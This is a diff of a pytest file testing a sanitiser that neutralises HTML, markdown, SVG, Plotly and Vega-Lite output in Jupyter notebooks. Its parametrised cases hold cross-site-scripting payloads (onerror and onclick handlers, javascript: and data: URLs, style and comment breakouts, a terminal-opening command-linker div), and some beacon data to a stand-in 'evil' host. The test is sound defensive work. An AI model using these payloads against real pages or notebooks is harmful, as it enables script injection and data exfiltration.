@@ -14,23 +14,52 @@ TABLE = (
     '<tbody><tr><td>1 &lt; 2</td><td><a href="https://example.com" target="_blank">there</a></td></tr></tbody>'
     "</table></div>"
 )
+WRITTEN_ANEW = (
+    '<div>\n\n<table><thead><tr style="text-align:right"><th></th></tr></thead><tbody><tr><td>1 &lt; 2</td>'
+    '<td><a href="https://example.com" rel="noopener noreferrer">there</a></td></tr></tbody></table></div>'
+)
 
 
 @pytest.mark.parametrize(
     "bundle",
     [
         {"text/plain": "<script>alert(1)</script>"},
-        {"text/plain": "a", "text/html": TABLE},
         {"text/plain": "a", "image/png": "iVBORw0KGgo="},
         {"text/plain": "x", "text/latex": "$x^2$"},
         {"text/plain": "x", "text/markdown": "**bold**, `code`"},
         {"application/vnd.plotly.v1+json": {"data": [{"type": "bar", "y": [1]}], "layout": {}}, "text/plain": "Figure"},
-        {"application/vnd.vegalite.v5+json": {"$schema": "https://vega.github.io/schema/x.json", "mark": "bar"}},
     ],
     ids=lambda bundle: max(bundle, key=len),
 )
 def test_what_only_shows_itself_stays_as_it_is(bundle: dict[str, Any]) -> None:
     assert inert(bundle) == bundle
+
+
+def test_a_table_is_written_anew_without_what_is_the_pages_own() -> None:
+    assert inert({"text/plain": "a", "text/html": TABLE}) == {"text/plain": "a", "text/html": WRITTEN_ANEW}
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<style></style/><img src=x onerror=alert(1)></style>",
+        '<style/><p title="</style><img src=x onerror=alert(1)>">t</p>',
+        "<style scoped></style x><img src=x onerror=alert(1)></style>",
+        '<b onclick=alert(1) style="color: red; background-image: url(//evil)">x</b>',
+        "<b style=\"background-color: image-set('https://evil/?k' 1x)\">x</b>",
+        '<a href="javascript:alert(1)">x</a><a href=" JAVASCRIPT:alert(1)">x</a><a href="data:text/html,x">x</a>',
+        '<a href="/logout">x</a><a href="//evil">x</a>',
+        '<div class="jp-Dialog" id="x" data-commandlinker-command="terminal:create-new" style="position:fixed">y</div>',
+        "<!-- --!><script>alert(1)</script> -->",
+        "<style scoped>@import 'https://evil/x.css'</style>",
+    ],
+)
+def test_what_is_left_of_html_does_nothing(html: str) -> None:
+    left = str((inert({"text/html": html}) or {}).get("text/html", "")).lower()
+    assert not any(
+        sign in left for sign in ("<img", "<style", "<script", "onerror=a", "onclick", "javascript", "data:")
+    )
+    assert not any(sign in left for sign in ("evil", "logout", "class", "id=", "command", "position", "url(", "image-"))
 
 
 @pytest.mark.parametrize(
@@ -39,22 +68,11 @@ def test_what_only_shows_itself_stays_as_it_is(bundle: dict[str, Any]) -> None:
         "<script>alert(1)</script>",
         "<SCRIPT src=//evil></SCRIPT>",
         '<img src="https://evil/?data">',
-        "<b onclick=alert(1)>x</b>",
-        '<a href="javascript:alert(1)">x</a>',
-        '<a href="JAVASCRIPT:alert(1)">x</a>',
-        '<a href=" javascript:alert(1)">x</a>',
-        '<a href="data:text/html,x">x</a>',
         "<iframe></iframe>",
         "<svg onload=alert(1)>",
         '<form action="/api"><button>Yes</button></form>',
-        "<style>@import 'https://evil/x.css'</style>",
         "<style>body { background: url(https://evil/) }</style>",
-        "<style>.jp { position: fixed }</style>",
-        "<style>.x { color: \\75rl(x) }</style>",
-        '<div style="position:fixed;top:0">Yes</div>',
-        '<div style="background:url(//evil)">x</div>',
-        "<!-- --!><script>alert(1)</script> -->",
-        "<![CDATA[><script>alert(1)</script>]]>",
+        "<style>button::after { content: 'No' }</style>",
         "<meta http-equiv=refresh content=0>",
         "<base href=//evil>",
         "<math><mtext><script>alert(1)</script></mtext></math>",
@@ -66,7 +84,7 @@ def test_what_only_shows_itself_stays_as_it_is(bundle: dict[str, Any]) -> None:
 def test_html_that_does_something_is_none(html: str) -> None:
     assert inert({"text/html": html}) is None
     assert inert({"text/plain": "<IPython.core.display.HTML object at 0x7f00>", "text/html": html}) is None
-    assert inert({"text/markdown": html}) is None
+    assert "text/markdown" not in (inert({"text/markdown": html}) or {})
 
 
 @pytest.mark.parametrize(
@@ -76,6 +94,12 @@ def test_html_that_does_something_is_none(html: str) -> None:
         {"image/svg+xml": "<svg><script>alert(1)</script></svg>"},
         {"text/markdown": "[x](javascript:alert(1))"},
         {"text/markdown": "![x](https://evil/?data)"},
+        {"text/markdown": "![x][1]\n\n[1]: https://evil/?data"},
+        {"text/markdown": "![1]\n\n[1]: //evil"},
+        {"application/vnd.vegalite.v5+json": {"mark": "bar"}},
+        {"application/vnd.plotly.v1+json": {"data": [{"type": "scattermapbox"}]}},
+        {"application/vnd.plotly.v1+json": {"data": [{"type": "bar"}], "layout": {"images": [{"source": "/logout"}]}}},
+        {"application/vnd.plotly.v1+json": {"data": [{"type": "bar", "text": ["https:\\\\evil"]}]}},
         {"text/latex": r"$\href{javascript:alert(1)}{x}$"},
         {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "IntSlider()"},
         {"application/vnd.vegalite.v5+json": {"data": {"url": "https://evil/?data"}, "mark": "bar"}},
